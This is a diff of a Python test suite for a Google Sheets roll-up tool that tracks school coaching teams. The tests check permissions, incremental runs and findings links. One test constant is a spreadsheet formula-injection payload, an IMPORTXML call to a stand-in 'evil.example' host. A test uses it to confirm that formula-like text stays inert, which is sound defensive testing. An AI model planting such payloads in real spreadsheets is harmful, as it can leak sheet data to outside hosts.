@@ -16,20 +16,26 @@ from typer.testing import CliRunner
 
 from tst_sheets.cli import app
 from tst_sheets.config import Settings
-from tst_sheets.jobs.provision import init_roster, provision
+from tst_sheets.demo.planted import MistakeKind
+from tst_sheets.demo.sample import sample_program, sample_teams
+from tst_sheets.demo.season import type_season
+from tst_sheets.jobs.init import init_roster
+from tst_sheets.jobs.provision import provision
 from tst_sheets.jobs.rollup import RollupResult, rollup
+from tst_sheets.jobs.roster import read_roster
 from tst_sheets.model import Program
-from tst_sheets.roster import read_roster
-from tst_sheets.sample import sample_program, sample_teams
-from tst_sheets.sample.season import MistakeKind, type_season
-from tst_sheets.start_here import MARKER
+from tst_sheets.rollup.start_here import MARKER
 from tst_sheets.workspace import Workspace
 
 AS_OF = date(2026, 11, 23)
 EVIL = '=IMPORTXML("http://evil.example/x","//a")'
 AT_SUM = "@SUM(A1:A3)"
-COACHES = {"dana.whitfield@tst.example.org", "marcus.bell@tst.example.org",
-           "priya.raman@tst.example.org", "luis.herrera@tst.example.org"}
+COACHES = {
+    "dana.whitfield@tst.example.org",
+    "marcus.bell@tst.example.org",
+    "priya.raman@tst.example.org",
+    "luis.herrera@tst.example.org",
+}
 STAFF = {"maya.thompson@tst.example.org", "program.office@tst.example.org"}
 PLAN: dict[str, tuple[MistakeKind, ...]] = {
     "T01": (),
@@ -60,32 +66,41 @@ def world(workspace: Workspace, connect_as: Callable[[str], Workspace]) -> World
     roster_id = init_roster(workspace, program=program).roster_spreadsheet_id
     books = {r.team_id: r.spreadsheet_id for r in provision(workspace, roster_id).created}
     type_season(connect_as, books, AS_OF, plan=PLAN, program=program, typed_in_date=TYPED_IN_DATE)
-    return World(workspace, roster_id, read_roster(workspace, roster_id).program, books,
-                 connect_as)
+    return World(workspace, roster_id, read_roster(workspace, roster_id).program, books, connect_as)
 
 
 def grid(ws: Workspace, book_id: str, title: str) -> list[list[dict[str, Any]]]:
     """A tab's cells as stored: ``userEnteredValue`` and ``effectiveValue`` of each."""
-    meta = ws.sheets.http_client.fetch_sheet_metadata(book_id, params={
-        "ranges": absolute_range_name(title), "includeGridData": "true",
-        "fields": "sheets.data.rowData.values(userEnteredValue,effectiveValue)"})
+    meta = ws.sheets.client.http_client.fetch_sheet_metadata(
+        book_id,
+        params={
+            "ranges": absolute_range_name(title),
+            "includeGridData": "true",
+            "fields": "sheets.data.rowData.values(userEnteredValue,effectiveValue)",
+        },
+    )
     rows = meta["sheets"][0]["data"][0].get("rowData", [])
     return [row.get("values", []) for row in rows]
 
 
 def shown(ws: Workspace, book_id: str, title: str) -> list[list[Any]]:
     """What a reader sees, formulas as written (FORMULA render)."""
-    reply = ws.sheets.http_client.values_get(book_id, absolute_range_name(title),
-                                             params={"valueRenderOption": "FORMULA"})
+    reply = ws.sheets.client.http_client.values_get(
+        book_id, absolute_range_name(title), params={"valueRenderOption": "FORMULA"}
+    )
     return list(reply.get("values", []))
 
 
 def rollup_cells(ws: Workspace, book_id: str) -> dict[str, list[list[Any]]]:
     """Every visible tab of the roll-up as stored, the run's own facts on About left out."""
-    meta = ws.sheets.http_client.fetch_sheet_metadata(book_id, params={
-        "includeGridData": "true",
-        "fields": "sheets(properties(title,hidden),data.rowData.values(userEnteredValue,"
-                  "userEnteredFormat.numberFormat))"})
+    meta = ws.sheets.client.http_client.fetch_sheet_metadata(
+        book_id,
+        params={
+            "includeGridData": "true",
+            "fields": "sheets(properties(title,hidden),data.rowData.values(userEnteredValue,"
+            "userEnteredFormat.numberFormat))",
+        },
+    )
     out = {}
     for sheet in meta["sheets"]:
         if sheet["properties"].get("hidden"):
@@ -114,9 +129,13 @@ def test_cold_run_reads_each_workbook_once(world: World) -> None:
     assert result.calls["sheets"]["write"] == 2 + 1 + teams
     assert result.start_here_written == ["T01", "T02", "T03"]
     assert read_roster(world.ws, world.roster_id).program.rollup_spreadsheet_id == (
-        result.rollup_spreadsheet_id)
-    labels = world.ws.drive.files().get(fileId=result.rollup_spreadsheet_id,
-                                        fields="appProperties").execute()["appProperties"]
+        result.rollup_spreadsheet_id
+    )
+    labels = (
+        world.ws.drive.resource.files()
+        .get(fileId=result.rollup_spreadsheet_id, fields="appProperties")
+        .execute()["appProperties"]
+    )
     assert labels["tstKind"] == "rollup" and labels["tstProgram"] == "TST"
     summary = shown(world.ws, result.rollup_spreadsheet_id, "Summary")
     assert [row[:5] for row in summary] == [
@@ -126,24 +145,38 @@ def test_cold_run_reads_each_workbook_once(world: World) -> None:
         ["T01", "Harriet Tubman Elementary", "Alicia Gomez", "Dana Whitfield", "On track"],
     ]
     dump = result.model_dump(by_alias=True, mode="json")
-    assert set(dump) == {"rollupSpreadsheetId", "url", "teams", "read", "reused", "unreadable",
-                         "findings", "calls"}
+    assert set(dump) == {
+        "rollupSpreadsheetId",
+        "url",
+        "teams",
+        "read",
+        "reused",
+        "unreadable",
+        "findings",
+        "calls",
+    }
 
 
 def test_a_finding_links_to_its_cell(world: World) -> None:
     result = world.run()
     book = world.books["T02"]
-    meta = world.ws.sheets.http_client.fetch_sheet_metadata(
-        book, params={"fields": "sheets.properties(sheetId,title)"})
-    gid = next(s["properties"]["sheetId"] for s in meta["sheets"]
-               if s["properties"]["title"] == "Coaching")
-    short = [r for r in shown(world.ws, result.rollup_spreadsheet_id, "Findings")
-             if r[0] == "T02" and r[7].startswith("20 min")]
+    meta = world.ws.sheets.client.http_client.fetch_sheet_metadata(
+        book, params={"fields": "sheets.properties(sheetId,title)"}
+    )
+    gid = next(
+        s["properties"]["sheetId"] for s in meta["sheets"] if s["properties"]["title"] == "Coaching"
+    )
+    short = [
+        r
+        for r in shown(world.ws, result.rollup_spreadsheet_id, "Findings")
+        if r[0] == "T02" and r[7].startswith("20 min")
+    ]
     assert len(short) == 1
     assert short[0][5] == "Coaching"
-    assert short[0][6] == (f'=HYPERLINK("https://docs.google.com/spreadsheets/d/{book}/edit'
-                           f'#gid={gid}&range=B3","B3")')
-    typed = world.ws.sheets.http_client.values_get(book, "Coaching!B3")["values"]
+    assert short[0][6] == (
+        f'=HYPERLINK("https://docs.google.com/spreadsheets/d/{book}/edit#gid={gid}&range=B3","B3")'
+    )
+    typed = world.ws.sheets.client.http_client.values_get(book, "Coaching!B3")["values"]
     assert typed == [["20"]] or typed == [[20]]
 
 
@@ -153,13 +186,17 @@ def test_formula_like_text_from_a_tl_stays_text(world: World) -> None:
     entered = [c.get("userEnteredValue", {}) for c in cells]
     texts = [e.get("stringValue", "") for e in entered]
     assert any(t.startswith(EVIL) for t in texts) and any(t.startswith(AT_SUM) for t in texts)
-    evil = next(c for c in cells if c.get("userEnteredValue", {}).get("stringValue", "")
-                .startswith(EVIL))
+    evil = next(
+        c for c in cells if c.get("userEnteredValue", {}).get("stringValue", "").startswith(EVIL)
+    )
     assert evil["effectiveValue"] == evil["userEnteredValue"]  # shown as typed, never run
     formulas = [e["formulaValue"] for e in entered if "formulaValue" in e]
     assert formulas and all(f.startswith('=HYPERLINK("https://docs.google.com/') for f in formulas)
-    here = [c.get("userEnteredValue", {}) for row in grid(world.ws, world.books["T02"],
-                                                           "Start Here") for c in row]
+    here = [
+        c.get("userEnteredValue", {})
+        for row in grid(world.ws, world.books["T02"], "Start Here")
+        for c in row
+    ]
     assert any(EVIL in v.get("stringValue", "") for v in here)
     assert all(v["formulaValue"].startswith("=HYPERLINK(") for v in here if "formulaValue" in v)
 
@@ -169,12 +206,15 @@ def test_only_coaches_and_staff_can_open_it(world: World) -> None:
     team = world.program.teams[0]
     for outsider in (team.tl_email, team.principal_email, sample_teams()[0].members[0].address()):
         with pytest.raises(APIError) as refused:
-            world.connect_as(outsider).sheets.http_client.fetch_sheet_metadata(book)
+            world.connect_as(outsider).sheets.client.http_client.fetch_sheet_metadata(book)
         assert refused.value.response.status_code in (403, 404)
     coach = world.connect_as(team.coach_email)
-    assert coach.sheets.http_client.values_get(book, "Summary!A1")["values"] == [["Team"]]
-    perms = world.ws.drive.permissions().list(
-        fileId=book, fields="permissions(role,emailAddress)").execute()["permissions"]
+    assert coach.sheets.client.http_client.values_get(book, "Summary!A1")["values"] == [["Team"]]
+    perms = (
+        world.ws.drive.resource.permissions()
+        .list(fileId=book, fields="permissions(role,emailAddress)")
+        .execute()["permissions"]
+    )
     roles = {p["emailAddress"]: p["role"] for p in perms if p["role"] != "owner"}
     assert roles == {**{c: "reader" for c in COACHES}, **{s: "writer" for s in STAFF}}
 
@@ -184,14 +224,22 @@ def test_only_coaches_and_staff_can_open_it(world: World) -> None:
 
 def test_nothing_changed_writes_nothing_anywhere(world: World) -> None:
     first = world.run()
-    modified = {f["id"]: f["modifiedTime"] for f in world.ws.drive.files().list(
-        fields="files(id,modifiedTime)").execute()["files"]}
+    modified = {
+        f["id"]: f["modifiedTime"]
+        for f in world.ws.drive.resource.files()
+        .list(fields="files(id,modifiedTime)")
+        .execute()["files"]
+    }
     again = world.run()
     assert again.read == 0 and again.reused == 3 and not again.written
     assert sheets_calls(again) <= 2 and again.calls["sheets"]["write"] == 0
     assert again.calls["drive"]["write"] == 0 and not again.start_here_written
-    after = {f["id"]: f["modifiedTime"] for f in world.ws.drive.files().list(
-        fields="files(id,modifiedTime)").execute()["files"]}
+    after = {
+        f["id"]: f["modifiedTime"]
+        for f in world.ws.drive.resource.files()
+        .list(fields="files(id,modifiedTime)")
+        .execute()["files"]
+    }
     assert after == modified
     assert again.rollup_spreadsheet_id == first.rollup_spreadsheet_id
 
@@ -199,9 +247,12 @@ def test_nothing_changed_writes_nothing_anywhere(world: World) -> None:
 def test_incremental_equals_cold_cell_for_cell(world: World) -> None:
     world.run()
     tl = world.connect_as(world.program.teams[0].tl_email)
-    tl.sheets.http_client.values_append(
-        world.books["T01"], "Meetings!A1", params={"valueInputOption": "USER_ENTERED"},
-        body={"values": [["2026-11-20", "45", "Alicia Gomez", "Walkthrough debrief", ""]]})
+    tl.sheets.client.http_client.values_append(
+        world.books["T01"],
+        "Meetings!A1",
+        params={"valueInputOption": "USER_ENTERED"},
+        body={"values": [["2026-11-20", "45", "Alicia Gomez", "Walkthrough debrief", ""]]},
+    )
     warm = world.run()
     assert (warm.read, warm.reused) == (1, 2)
     assert warm.calls["sheets"]["read"] == 2 + 1  # roster, state, the changed team
@@ -210,7 +261,7 @@ def test_incremental_equals_cold_cell_for_cell(world: World) -> None:
     full = world.run(full=True)
     assert full.read == 3 and not full.written  # same content, same state: nothing to write
     # a roll-up built from nothing, by a cold run, is the same cell for cell
-    world.ws.drive.files().delete(fileId=warm.rollup_spreadsheet_id).execute()
+    world.ws.drive.resource.files().delete(fileId=warm.rollup_spreadsheet_id).execute()
     cold = world.run()
     assert cold.rollup_spreadsheet_id != warm.rollup_spreadsheet_id and cold.read == 3
     assert rollup_cells(world.ws, cold.rollup_spreadsheet_id) == incremental
@@ -228,7 +279,7 @@ def test_first_seen_is_kept_across_runs(world: World) -> None:
 
 
 def test_an_unreadable_workbook_does_not_stop_the_write(world: World) -> None:
-    world.ws.drive.files().delete(fileId=world.books["T03"]).execute()
+    world.ws.drive.resource.files().delete(fileId=world.books["T03"]).execute()
     result = world.run()
     assert [u.team for u in result.unreadable] == ["T03"] and result.written
     summary = shown(world.ws, result.rollup_spreadsheet_id, "Summary")
@@ -249,26 +300,43 @@ def test_start_here_shows_the_team_its_status(world: World) -> None:
     assert rows[start + 1] == ["Overall", "Behind"]
     assert any(r[1].startswith("Behind: meetings this month") for r in rows[start:] if len(r) > 1)
     links = [r[0] for r in rows[start:] if r and str(r[0]).startswith("=HYPERLINK(")]
-    assert any("&range=B3\",\"Coaching!B3\")" in link for link in links)
+    assert any('&range=B3","Coaching!B3")' in link for link in links)
 
 
 def test_a_rollup_edited_by_hand_is_put_right(world: World) -> None:
     book = world.run().rollup_spreadsheet_id
     staff = world.connect_as(sorted(STAFF)[0])  # staff may edit the roll-up
-    meta = staff.sheets.http_client.fetch_sheet_metadata(
-        book, params={"fields": "sheets(properties(title,sheetId),filterViews.filterViewId)"})
-    views = next(s["filterViews"] for s in meta["sheets"]
-                 if s["properties"]["title"] == "Findings")
-    staff.sheets.http_client.batch_update(book, {"requests": [
-        {"deleteFilterView": {"filterId": views[0]["filterViewId"]}},
-        {"deleteSheet": {"sheetId": next(s["properties"]["sheetId"] for s in meta["sheets"]
-                                         if s["properties"]["title"] == "Events")}}]})
+    meta = staff.sheets.client.http_client.fetch_sheet_metadata(
+        book, params={"fields": "sheets(properties(title,sheetId),filterViews.filterViewId)"}
+    )
+    views = next(s["filterViews"] for s in meta["sheets"] if s["properties"]["title"] == "Findings")
+    staff.sheets.client.http_client.batch_update(
+        book,
+        {
+            "requests": [
+                {"deleteFilterView": {"filterId": views[0]["filterViewId"]}},
+                {
+                    "deleteSheet": {
+                        "sheetId": next(
+                            s["properties"]["sheetId"]
+                            for s in meta["sheets"]
+                            if s["properties"]["title"] == "Events"
+                        )
+                    }
+                },
+            ]
+        },
+    )
     later = world.run(as_of=date(2026, 11, 24))  # a new day: the roll-up changes
     assert later.written
     # the first write is refused (it deletes a filter view that is gone): look once, write again
     assert later.calls["sheets"]["write"] - len(later.start_here_written) == 2
-    titles = [s["properties"]["title"] for s in world.ws.sheets.http_client.fetch_sheet_metadata(
-        book, params={"fields": "sheets.properties.title"})["sheets"]]
+    titles = [
+        s["properties"]["title"]
+        for s in world.ws.sheets.client.http_client.fetch_sheet_metadata(
+            book, params={"fields": "sheets.properties.title"}
+        )["sheets"]
+    ]
     assert titles == ["Summary", "Findings", "By Coach", "Trends", "Events", "About", "_state"]
     again = world.run(as_of=date(2026, 11, 25))
     assert again.calls["sheets"]["write"] - len(again.start_here_written) == 1
@@ -278,8 +346,11 @@ def test_a_rollup_edited_by_hand_is_put_right(world: World) -> None:
 
 
 def test_cli_json_and_summary(world: World, settings: Settings) -> None:
-    env = {"TST_TARGET": "local", "TST_EMULATOR_URL": settings.emulator_url,
-           "TST_IDENTITY": settings.identity}
+    env = {
+        "TST_TARGET": "local",
+        "TST_EMULATOR_URL": settings.emulator_url,
+        "TST_IDENTITY": settings.identity,
+    }
     args = ["rollup", "--roster", world.roster_id, "--as-of", "2026-11-23"]
     out = CliRunner().invoke(app, [*args, "--json"], env=env)
     assert out.exit_code == 0, out.output
